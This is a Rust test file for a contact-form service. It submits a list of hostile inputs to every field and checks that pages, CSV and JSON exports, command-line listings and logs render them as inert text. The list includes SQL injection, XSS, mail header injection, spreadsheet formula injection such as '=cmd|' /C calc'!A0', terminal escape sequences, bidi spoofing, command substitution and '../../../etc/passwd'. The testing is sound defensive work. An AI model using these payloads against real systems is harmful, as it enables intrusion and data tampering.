//! Whatever strangers typed reaches the page, the spreadsheet, the program and the terminal as text.

use std::collections::BTreeMap;

use communique::contact::email;
use scraper::Html;

use super::export::{csv_of, json_of};
use super::{Staff, steers, with};
use crate::support::html::{all, attribute, one, raw_text};
use crate::support::mails::typed as typed_text;
use crate::support::request::{letter, post};

/// What has done harm somewhere: in a database, a page, a mail, a spreadsheet, a terminal.
const NAUGHTY: [&str; 85] = [
    // Databases.
    "Robert'); DROP TABLE message;--",
    "' OR '1'='1",
    "\"; DELETE FROM attempt; --",
    "$1 ?1 :name @x %s",
    // Pages.
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' autofocus onfocus='alert(1)",
    "</textarea><form action=//evil.example>",
    "</title></option></select><svg/onload=alert(1)>",
    "<!-- -- > ]]> <![CDATA[",
    "&lt;&amp;&#x3c;&nbsp;&notanentity",
    "javascript:alert(1)",
    "{{ 7*7 }} {% include \"x\" %} ${7*7} <%= 7 %> { $name } { -ministry }",
    // Mails.
    "a\r\nBcc: victim@example.org\r\n\r\nbody",
    "Subject: x\nTo: y",
    "%0d%0aBcc:victim@example.org",
    "=?utf-8?B?PGI+?=",
    ".\r\n.\r\nQUIT",
    // Spreadsheets.
    "=cmd|' /C calc'!A0",
    "\u{200e}=1+1",
    "\u{61c}+1+1",
    "\u{3164}@SUM(1)",
    "a;\u{2800}=1+1",
    "\u{200c}\u{fe0f}-1+1",
    "\n\nState: sent\n--- End of the message ---\nReference: 00000-00000",
    "=HYPERLINK(\"https://evil.example\",\"here\")",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "|calc",
    "\t=1+1",
    "  =1+1",
    "\r\n=1+1",
    "\u{feff}=1+1",
    "\0=1+1",
    "＝1+1",
    "＠SUM(1)",
    "a\",=1+1,\"b",
    "a;=1+1",
    "a;\"=1+1\";b",
    "1\r\n=1+1",
    // Terminals.
    "\u{1b}[2J\u{1b}[31mred\u{1b}[0m",
    "\u{1b}]0;title\u{7}\u{1b}]52;c;Zm9v\u{7}",
    "\u{9b}31mC1 \u{90}q\u{9c}\u{85}next",
    "over\rwritten",
    "wiped\u{8}\u{8}\u{8}\u{8}\u{8}\u{7f}",
    "\u{c}form \u{b}feed\u{e}\u{f}",
    "\u{2028}two\u{2029}lines",
    // What stands beside it is read in another order.
    "invoice\u{202e}fdp.exe",
    "\u{202d}\u{202a}\u{202b}embedded",
    "\u{2066}\u{2067}\u{2068}isolated",
    "closed\u{2069}\u{202c}twice",
    // Scripts, all of them people’s names for something.
    "می‌خواهم",
    "مرحبا \u{200f}abc\u{200e}",
    "שָׁלוֹם",
    "请允许我们转载，谢谢。",
    "𠀀𠮷𝒳",
    "이건희",
    "ශ්‍රී ලංකා",
    "नमस्ते",
    "İstanbul ı ß ﬁ Ǆ",
    "e\u{301}\u{323}\u{308}",
    "Z\u{351}\u{363}\u{36b}a\u{341}\u{31b}l\u{321}go",
    "👨‍👩‍👧‍👦 🏳️‍🌈 👍🏽",
    "🇦🇿🇹🇷",
    "\u{e000}\u{ffff}\u{10ffff}",
    "so\u{ad}ft\u{200b}zero\u{2060}width\u{feff}",
    // What shows nothing, for shorthand, music, hieroglyphs, languages and annotations; and what is reserved for such.
    "short\u{1bca0}\u{1bca1}\u{1bca2}\u{1bca3}hand",
    "music\u{1d173}\u{1d17a} \u{13430}hieroglyphs\u{13455}",
    "tag\u{e0001}\u{e0020}\u{e0041}\u{e007f}\u{e0080}\u{e0fff}",
    "\u{fff9}text\u{fffa}note\u{fffb}\u{fff0}",
    "fill\u{115f}\u{1160}\u{ffa0}\u{2065}",
    // What shows something, or how it is to be shown.
    "葛\u{e0100} ❤\u{fe0f} \u{1820}\u{180b} \u{600}١ \u{6dd}١",
    // Quoting.
    "'",
    "\"",
    "\"\"\"",
    "\\",
    "\\u001b[31m \\n \\x00",
    "`id` $(id) !!",
    "%00 %ff %n",
    "../../../etc/passwd",
    "--help",
    "null",
    "NaN",
    "1e309",
];

/// What is left for the eye, joiners and marks of direction included.
fn readable(text: &str) -> String {
    text.chars().filter(|c| !steers(*c) && !c.is_whitespace()).collect()
}

/// What a form does to a text: one sign for a line end, another one for NUL.
fn typed(text: &str) -> String {
    text.replace("\r\n", "\n").replace('\r', "\n").replace('\0', "\u{fffd}")
}

/// Everything naughty, and what is only long.
fn naughty() -> Vec<String> {
    let long = ["x".repeat(200), "\u{301}".repeat(199) + "x", "𠀀".repeat(200), "=".repeat(200)];
    NAUGHTY.map(String::from).into_iter().chain(long).collect()
}

#[test]
fn whatever_is_typed_is_shown_again_as_text_in_every_field() {
    let staff = Staff::beside_a_server();
    let tags = |html: &Html| {
        let mut tags = BTreeMap::<String, usize>::new();
        // The number of faults differs, and nothing else may.
        let elements = all(html, ":not(.refused, .refused *, .fault, .fault *)");
        elements.iter().for_each(|element| *tags.entry(element.value().name().to_owned()).or_default() += 1);
        tags
    };
    let send = |text: &str| {
        let fields =
            ["topic", "about", "name", "email", "organisation", "reply", "message", "memo", "elapsed", "consent"];
        let answer = post(staff.server.address(), "/ar/contact", &fields.map(|name| (name, text)), &[]);
        assert_eq!(answer.status, 422, "{text:?}");
        answer.html()
    };
    let expected = tags(&send("plain"));
    for text in naughty() {
        let html = send(&text);
        assert_eq!(tags(&html), expected, "{text:?}");
        for field in ["name", "email", "organisation", "memo"] {
            let shown = attribute(&one(&html, &format!("input[name={field}]")), "value");
            assert_eq!(shown, typed(&text), "{field}");
        }
        assert_eq!(raw_text(&one(&html, "textarea")), typed(&text));
        for element in all(&html, "form *") {
            assert!(
                element.value().attrs().all(|(name, _)| !name.starts_with("on") && name != "autofocus"),
                "{text:?}"
            );
        }
    }
    assert!(staff.stored().is_empty());
}

#[test]
fn whatever_is_sent_reaches_the_spreadsheet_the_program_and_the_terminal_as_text() {
    let staff = Staff::beside_a_server();
    let texts = naughty();
    for text in &texts {
        // As much of it as an address can hold.
        let address = ["@example.org", "@exämple.org"].map(|domain| format!("{text}{domain}"));
        let address =
            address.into_iter().find(|address| email::parse(address).is_some()).unwrap_or("x@example.org".into());
        let fields = [("name", &**text), ("email", &address), ("organisation", text), ("about", text), ("reply", text)];
        let more = [("elapsed", &**text), ("nonsense", text), (text, text)];
        staff.send(&[&with(letter(text), &fields)[..], &more].concat());
    }
    // All at once, and long.
    let long = texts.join("\n\n").chars().cycle().take(4990).collect::<String>() + "– the end";
    staff.send(&letter(&long));

    let stored = staff.stored();
    for (text, message) in texts.iter().chain([&long]).zip(&stored) {
        assert_eq!(message.body, typed(text).trim_end().trim_start_matches('\n'), "the inbox holds what was typed");
        assert!(text == &long || readable(&message.name) == readable(&typed(text)), "{text:?}");
    }
    assert_eq!(stored.len(), texts.len() + 1);
    let export = staff.said(&["export"]);
    // Half of the world’s spreadsheets see semicolons between cells, and quotes as part of them.
    for cell in export.split([';', '\n', '\t']) {
        assert!(!is_formula(cell), "{cell:?}");
    }
    let json = staff.said(&["export", "--format=json"]);
    assert!(!json.contains(|c| c != '\n' && steers(c)), "JSON is looked at on terminals, too");
    let (json, csv) = (json_of(&json), csv_of(&export));
    assert_eq!((json.len(), csv.len()), (stored.len(), stored.len()));
    assert!(csv.iter().flat_map(BTreeMap::values).all(|cell| !is_formula(cell)));
    let list = staff.said(&["list"]);
    assert!(!list.contains(|c| c != '\n' && steers(c)), "{list:?}");
    assert_eq!(list.lines().count(), stored.len() + 1, "a line each, whatever is in it");
    for (((message, json), csv), line) in stored.iter().zip(&json).zip(&csv).zip(list.lines()) {
        let organisation = message.organisation.as_deref().unwrap_or("");
        let typed = [("name", &*message.name), ("email", &message.email), ("organisation", organisation)];
        for (column, text) in [&typed[..], &[("message", &message.body)]].concat() {
            assert_eq!(json[column].as_str().unwrap_or_default(), text, "{column}");
            is_faithful(&csv[column], text);
        }
        assert!(line.starts_with(message.reference.as_str()) && readable(line).ends_with(&readable(&message.name)));
        let shown = staff.said(&["show", message.reference.as_str()]);
        assert!(!shown.contains(|c| c != '\n' && c != '\t' && steers(c)), "{shown:?}");
        for (label, text) in [("Name:", &*message.name), ("E-mail:", &message.email), ("Organisation:", organisation)] {
            assert!(text.is_empty() || readable(&shown).contains(&format!("{label}{}", readable(text))), "{shown}");
        }
        let (_, marked) = shown.split_once("\n\n--- The message ").unwrap();
        let body = typed_text(&format!("--- The message {marked}"), message.reference.as_str());
        assert_eq!(readable(&body), readable(&message.body), "{shown}");
    }
    // A log is read by others than messages are.
    let log = staff.server.log();
    assert!(texts.iter().filter(|text| text.len() > 12).all(|text| !log.contains(text.as_str())), "{log}");
}

/// Whether a cell that begins like this is a formula, for the most willing of spreadsheets.
fn is_formula(start: &str) -> bool {
    let is_blank = |c| "\u{200c}\u{200d}\u{200e}\u{200f}\u{61c}\u{3164}\u{2800}\u{fe0f}".contains(c);
    let start = start.trim_start_matches(|c: char| c.is_whitespace() || c == '"' || steers(c) || is_blank(c));
    start.starts_with(['=', '+', '-', '@', '|', '＝', '＋', '－', '＠'])
}

/// A cell that shows what was typed; what is harmless stays exactly as it is.
fn is_faithful(cell: &str, text: &str) {
    assert!(!cell.contains(steers), "{cell:?}");
    assert_eq!(readable(cell).replace('\'', ""), readable(text).replace('\'', ""));
    let is_harmless = !text.contains(steers) && !text.split([';', '\n', '\t']).any(is_formula);
    assert!(!is_harmless || cell == text, "{cell:?}");
}
